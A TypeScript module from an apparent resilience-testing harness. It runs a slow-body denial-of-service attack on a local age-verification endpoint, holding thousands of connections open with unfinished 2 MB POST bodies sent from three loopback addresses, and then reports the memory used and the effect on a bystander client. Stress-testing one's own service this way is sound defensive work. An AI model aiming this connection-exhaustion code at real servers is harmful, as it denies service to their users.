// Sends requests that never end, from three addresses. Some send a long body, which occupies memory; the others only occupy connections.

import { connect, type Socket } from 'node:net'
import type { AttackOptions, AttackReport } from '../attack-stage/attack.ts'
import { quietRow, watchBystander } from '../attack-stage/bystander.ts'
import { callFrom } from '../attack-stage/call.ts'
import { memoryRows } from '../attack-stage/unread.ts'

export const about = 'bodies that never end from three addresses, 2 MB of each sent'

const ADDRESSES = ['127.0.0.1', '127.0.0.2', '127.0.0.3'] as const
const PER_ADDRESS = 1_400
/** How many requests of each address send nearly the whole body that they announce. */
const LARGE_PER_ADDRESS = 20
const BODY = 2 * 1024 * 1024

export async function run(options: AttackOptions): Promise<AttackReport> {
  const { url, bystanderKey: key, attackerKeys, seconds, memory } = options
  const quiet = await watchBystander({ url, key, seconds: seconds / 2 })
  const before = memory()
  const path = await openVerification(url, attackerKeys[0] ?? key)
  const sockets: Socket[] = []
  for (let count = 0; count < PER_ADDRESS; count += 1) {
    for (const from of ADDRESSES) sockets.push(slowBody(url, { path, from, isLarge: count < LARGE_PER_ADDRESS }))
    if (count % 50 === 49) await new Promise(setImmediate)
  }
  try {
    const noticed = await watchBystander({ url, key, seconds })
    const open = sockets.filter((socket) => !socket.destroyed && !socket.connecting).length
    return { ...quietRow(quiet), ...noticed, 'connections still held': open, ...memoryRows(before, memory()) }
  } finally {
    for (const socket of sockets) socket.destroy()
  }
}

async function openVerification(url: string, key: string): Promise<string> {
  const created = await callFrom({
    url,
    key,
    method: 'POST',
    path: '/v1/verifications',
    body: { template: 'age_over_18' },
  })
  return `/wallet/response/${(JSON.parse(created.text) as { id: string }).id}`
}

function slowBody(url: string, { path, from, isLarge }: { path: string; from: string; isLarge: boolean }): Socket {
  const { hostname, port } = new URL(url)
  const socket = connect({ host: hostname, port: Number(port), localAddress: from })
  // If the connection closes, its part of the attack ends. That is a result, not a failure.
  socket.on('error', () => undefined)
  // Reads the answers, like an attacker who wants to keep the connection.
  socket.resume()
  socket.write(
    `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${BODY}\r\n\r\nvp_token=`,
  )
  if (isLarge) socket.write(Buffer.alloc(BODY - 1_000, 0x41))
  return socket
}
